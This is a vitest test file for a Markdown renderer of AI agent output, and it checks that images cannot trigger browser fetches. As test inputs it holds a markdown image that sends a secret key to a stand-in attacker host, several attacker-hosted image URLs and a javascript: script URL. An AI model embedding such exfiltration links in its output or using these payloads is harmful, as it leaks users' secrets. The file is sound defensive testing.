import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { Markdown } from "./Markdown.tsx";

const render = (text: string) => renderToStaticMarkup(<Markdown text={text} />);
const PIXEL =
  "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=";

describe("images in agent output", () => {
  it("shows an external image as a link, never as an <img> the browser would fetch", () => {
    const html = render("Look: ![the secret](https://attacker.example/collect?d=sk-123 'chart')");
    expect(html).not.toContain("<img");
    expect(html).toMatch(
      /<a class="markdown-image-link" href="https:\/\/attacker.example\/collect\?d=sk-123"/,
    );
    expect(html).toContain('rel="noreferrer noopener"');
    expect(html).toContain("the secret");
  });

  it("treats relative, protocol-relative and reference-style images the same way", () => {
    for (const text of [
      "![a](/api/usage/ledger.csv)",
      "![a](//attacker.example/x.png)",
      "![a][ref]\n\n[ref]: https://attacker.example/y.png",
    ]) {
      expect(render(text), text).not.toContain("<img");
    }
  });

  it("shows inline data: images", () => {
    expect(render(`![pixel](${PIXEL})`)).toContain(`<img src="${PIXEL}" alt="pixel"`);
  });

  it("keeps raw HTML images as text, and nests no link inside a link", () => {
    expect(render('<img src="https://attacker.example/z.png">')).not.toContain("<img");
    const linked = render("[![badge](https://attacker.example/b.svg)](https://example.com)");
    expect(linked).not.toContain("<img");
    expect(linked.match(/<a /g)).toHaveLength(1);
  });

  it("drops a script URL", () => {
    const html = render("![x](javascript:alert(1))");
    expect(html).not.toContain("javascript:");
    expect(html).not.toContain("<img");
  });
});
